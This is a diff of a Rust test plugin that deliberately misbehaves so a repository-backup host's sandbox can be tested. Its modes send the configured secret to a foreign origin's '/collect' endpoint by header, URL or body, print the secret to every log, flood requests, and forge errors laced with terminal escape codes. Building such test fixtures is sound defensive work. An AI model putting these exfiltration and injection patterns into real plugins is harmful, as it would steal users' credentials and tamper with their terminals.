@@ -3,7 +3,9 @@
 //! - `control-names`: names and ids that would be dangerous as paths or on a terminal;
 //! - `no-id`, `duplicate-ids`: identities missing, or shared by two repositories;
 //! - `endless-pages`, `endless-empty`: always one more page, of a new repository or of nothing;
-//! - `huge-page`: 100,000 repositories at once;
+//! - `circle`: the second page leads back to itself;
+//! - `huge`: 100,000 repositories on ten pages; `huge-page`: more on one page than may be;
+//! - `limited`: each page of two says at first that a limit is used up;
 //! - `bad-clone-url`: clone URLs that must not be cloned from;
 //! - `leak`: the secret in log lines and in the error;
 //! - `direct-origin`, `direct-header`: the credentials to another origin, by the host's field for
@@ -11,14 +13,17 @@
 //! - `direct-field`, `direct-address`, `direct-body`: the same by a field of its own, by the address, by
 //!   a body;
 //! - `post`: a POST to the other origin, without credentials;
+//! - `flood`: 2,000 requests of the host for one page; `chatter`: 20,000 lines of the log;
+//! - `many-notes`: a million notes; `long-note`: one of 8 MB;
 //! - `error-weird`: an error of an unknown kind, with control characters.
 
-use forgekeep_plugin_sdk_draft::{
-    Authorization, Extras, Header, HosterError, HttpRequest, Note, Page, RSome, Repository,
-    Severity, error_kind,
+use forgekeep_plugin_sdk::{
+    Auth, ErrorKind, Finding, Header, Host, HosterError, HttpRequest, Page, Part, PartKind,
+    Repository, Result, Severity, Source,
 };
 
-use crate::{MisbehavingSession, clone_base, foreign_origin, misbehaviour};
+use crate::settings::{clone_base, foreign_origin, misbehaviour};
+use crate::{Kept, own};
 
 /// Names that a careless host would write to the disk or the terminal as they are.
 const DANGEROUS: [&str; 16] = [
@@ -54,26 +59,74 @@ const BAD_URLS: [&str; 10] = [
     "",
 ];
 
-/// The page that the misbehaviour of now makes.
-pub(crate) fn page(session: &MisbehavingSession) -> Result<Option<Page>, HosterError> {
-    if let Some(error) = failure(session) {
+/// The page that the misbehaviour makes.
+pub(crate) fn page(source: &Source, cursor: Option<&str>, host: &Host<'_>) -> Result<Page> {
+    if let Some(error) = failure(source, host) {
         return Err(error);
     }
-    let number = session.pages;
-    match misbehaviour().as_str() {
-        "endless-pages" => return Ok(Some(of(vec![good(&format!("acme/r{number}"))]))),
-        "endless-empty" => return Ok(Some(Page::default())),
-        _ if number > 1 => return Ok(None),
+    let number: u64 = cursor.and_then(|cursor| cursor.parse().ok()).unwrap_or(1);
+    if misbehaviour() == "limited" {
+        return limited(number, host);
+    }
+    let mut page = of(repositories(number));
+    page.next = match misbehaviour() {
+        "endless-pages" | "endless-empty" => Some((number + 1).to_string()),
+        "huge" if number < 10 => Some((number + 1).to_string()),
+        "circle" => Some("2".to_owned()),
+        _ => None,
+    };
+    match misbehaviour() {
+        "many-notes" => page.notes = vec![Finding::new(Severity::Info, "", "x"); 1_000_000],
+        "long-note" => page.notes = vec![Finding::new(Severity::Info, "", "x".repeat(8 << 20))],
+        "flood" => {
+            for number in 0..2_000 {
+                let url = format!("{}/{number}", clone_base());
+                let _ = host.get(&url, &Auth::None);
+            }
+        }
+        "chatter" => (0..20_000).for_each(|number| host.info(&format!("line {number}"))),
+        direct if direct.starts_with("direct-") => {
+            let message = format!("{} answered", foreign_origin());
+            page.notes.push(Finding::new(Severity::Info, "", message));
+        }
         _ => {}
     }
-    let mut page = of(match misbehaviour().as_str() {
+    Ok(page)
+}
+
+/// Two pages, each of which is a limit at first.
+fn limited(number: u64, host: &Host<'_>) -> Result<Page> {
+    if host.session::<Kept>()?.count(&format!("page {number}")) == 1 {
+        let mut error =
+            HosterError::new(ErrorKind::RateLimited, "its limit is used up").transient();
+        error.retry_after = Some(1);
+        return Err(error);
+    }
+    let (name, next) = match number {
+        1 => ("acme/one", Some("2".to_owned())),
+        _ => ("acme/two", None),
+    };
+    Ok(Page {
+        next,
+        ..of(vec![good(name)])
+    })
+}
+
+fn repositories(page: u64) -> Vec<Repository> {
+    match misbehaviour() {
+        "endless-pages" => vec![good(&format!("acme/r{page}"))],
+        "endless-empty" => Vec::new(),
+        "circle" if page > 1 => Vec::new(),
         "control-names" => DANGEROUS.iter().map(|name| dangerous(name)).collect(),
         "no-id" => vec![Repository::new("", "acme/one", clone_url("acme/one"))],
         "duplicate-ids" => ["acme/one", "acme/two"]
             .iter()
             .map(|name| Repository::new("same", *name, clone_url(name)))
             .collect(),
-        "huge-page" => (0..100_000)
+        "huge" => (0..10_000)
+            .map(|number| good(&format!("acme/r{}", (page - 1) * 10_000 + number)))
+            .collect(),
+        "huge-page" => (0..20_000)
             .map(|number| good(&format!("acme/r{number}")))
             .collect(),
         "bad-clone-url" => BAD_URLS
@@ -84,51 +137,46 @@ pub(crate) fn page(session: &MisbehavingSession) -> Result<Option<Page>, HosterE
             })
             .collect(),
         _ => vec![good("acme/one"), good("acme/two")],
-    });
-    if misbehaviour().starts_with("direct-") {
-        page.notes.push(Note {
-            severity: Severity::Info,
-            message: format!("{} answered", foreign_origin()).into(),
-            extras: Extras::new(),
-        });
     }
-    Ok(Some(page))
 }
 
-/// The error that the misbehaviour of now ends in, if any.
-pub(crate) fn failure(session: &MisbehavingSession) -> Option<HosterError> {
-    match misbehaviour().as_str() {
-        "leak" => Some(leak(session)),
-        "direct-origin" => send(session, Vec::new(), session.authorization()),
+/// The error that the misbehaviour ends in, if any.
+pub(crate) fn failure(source: &Source, host: &Host<'_>) -> Option<HosterError> {
+    let secret = || {
+        let secret = source.password();
+        secret
+            .map_or("no-secret-configured", |secret| secret.expose())
+            .to_owned()
+    };
+    match misbehaviour() {
+        "leak" => Some(leak(&secret(), host)),
+        "direct-origin" => send(Vec::new(), own(source), host),
         "direct-header" => {
             let header = Header {
                 name: "AuthoriZation".into(),
-                value: format!("Bearer {}", session.secret().expose()).into(),
+                value: format!("Bearer {}", secret()),
             };
-            send(session, vec![header], Authorization::Anonymous)
+            send(vec![header], Auth::None, host)
         }
         "direct-field" => {
             let header = Header {
                 name: "PRIVATE-TOKEN".into(),
-                value: session.secret().expose().into(),
+                value: secret(),
             };
-            send(session, vec![header], Authorization::Anonymous)
+            send(vec![header], Auth::None, host)
         }
-        "direct-address" => {
-            let address = format!("collect?token={}", session.secret().expose());
-            ask(session, "GET", &address, Vec::new())
-        }
+        "direct-address" => ask("GET", &format!("collect?token={}", secret()), "", host),
         "direct-body" => {
-            let body = format!("{{\"token\": \"{}\"}}", session.secret().expose());
-            ask(session, "POST", "collect", body.into_bytes())
+            let body = format!("{{\"token\": \"{}\"}}", secret());
+            ask("POST", "collect", &body, host)
         }
         "post" => Some(
-            ask(session, "POST", "2.0/repositories/acme", b"{}".to_vec())
-                .unwrap_or_else(|| HosterError::new(error_kind::OTHER, "it was answered")),
+            ask("POST", "2.0/repositories/acme", "{}", host)
+                .unwrap_or_else(|| HosterError::new(ErrorKind::Other, "it was answered")),
         ),
         "error-weird" => Some(
             HosterError::new(
-                "flux-capacitor",
+                ErrorKind::of("flux-capacitor"),
                 "all is lost\u{1b}[2J\u{1b}[31m\r\nforged: line\u{0}\u{202e}",
             )
             .with_hint("do\u{7} nothing\n"),
@@ -138,61 +186,38 @@ pub(crate) fn failure(session: &MisbehavingSession) -> Option<HosterError> {
 }
 
 /// Says the secret wherever words can be said.
-fn leak(session: &MisbehavingSession) -> HosterError {
-    let secret = session.secret();
-    let secret = secret.expose();
-    session.services.info(&format!("the secret is {secret}"));
-    session.services.debug(&format!("again: {secret}"));
-    HosterError::new(error_kind::OTHER, format!("refused with {secret}"))
+fn leak(secret: &str, host: &Host<'_>) -> HosterError {
+    host.info(&format!("the secret is {secret}"));
+    host.debug(&format!("again: {secret}"));
+    println!("and again: {secret}");
+    eprintln!("and again: {secret}");
+    HosterError::new(ErrorKind::Other, format!("refused with {secret}"))
         .with_hint(format!("try {secret} once more"))
 }
 
-/// Sends the credentials to another origin; what the host says to that.
-fn send(
-    session: &MisbehavingSession,
-    headers: Vec<Header>,
-    authorization: Authorization,
-) -> Option<HosterError> {
-    session
-        .services
-        .http(HttpRequest {
-            method: "GET".into(),
-            url: format!("{}/collect", foreign_origin()).into(),
-            headers: headers.into(),
-            authorization,
-            body: Vec::new().into(),
-            extras: Extras::new(),
-        })
-        .err()
+/// Sends credentials to another origin; what the host says to that.
+fn send(headers: Vec<Header>, auth: Auth, host: &Host<'_>) -> Option<HosterError> {
+    host.http(HttpRequest {
+        headers,
+        ..HttpRequest::new("GET", format!("{}/collect", foreign_origin()), &auth)
+    })
+    .err()
 }
 
 /// Asks the other origin without the host's field for credentials; what the host says to that.
-fn ask(
-    session: &MisbehavingSession,
-    method: &str,
-    address: &str,
-    body: Vec<u8>,
-) -> Option<HosterError> {
-    session
-        .services
-        .http(HttpRequest {
-            method: method.into(),
-            url: format!("{}/{address}", foreign_origin()).into(),
-            headers: vec![Header {
-                name: "accept".into(),
-                value: "application/json".into(),
-            }]
-            .into(),
-            authorization: Authorization::Anonymous,
-            body: body.into(),
-            extras: Extras::new(),
-        })
+fn ask(method: &str, address: &str, body: &str, host: &Host<'_>) -> Option<HosterError> {
+    let url = format!("{}/{address}", foreign_origin());
+    let request = HttpRequest {
+        body: body.as_bytes().to_vec(),
+        ..HttpRequest::new(method, url, &Auth::None)
+    };
+    host.http(request.with_header("accept", "application/json"))
         .err()
 }
 
 fn of(repositories: Vec<Repository>) -> Page {
     Page {
-        repositories: repositories.into(),
+        repositories,
         ..Page::default()
     }
 }
@@ -207,12 +232,12 @@ fn good(name: &str) -> Repository {
 
 /// Dangerous in every text it has, but with something to clone.
 fn dangerous(name: &str) -> Repository {
-    Repository {
-        id: name.into(),
-        full_name: name.into(),
-        clone_url: clone_url("acme/one").into(),
-        wiki_url: RSome(clone_url("acme/one").into()),
-        default_branch: name.into(),
-        ..Repository::default()
+    let mut repository = Repository::new(name, name, clone_url("acme/one"));
+    if let Some(git) = repository.parts.first_mut() {
+        git.default_branch = Some(name.to_owned());
     }
+    let wiki = Part::new(PartKind::Wiki, clone_url("acme/one"));
+    repository.parts.push(wiki);
+    repository.handle = name.to_owned();
+    repository
 }
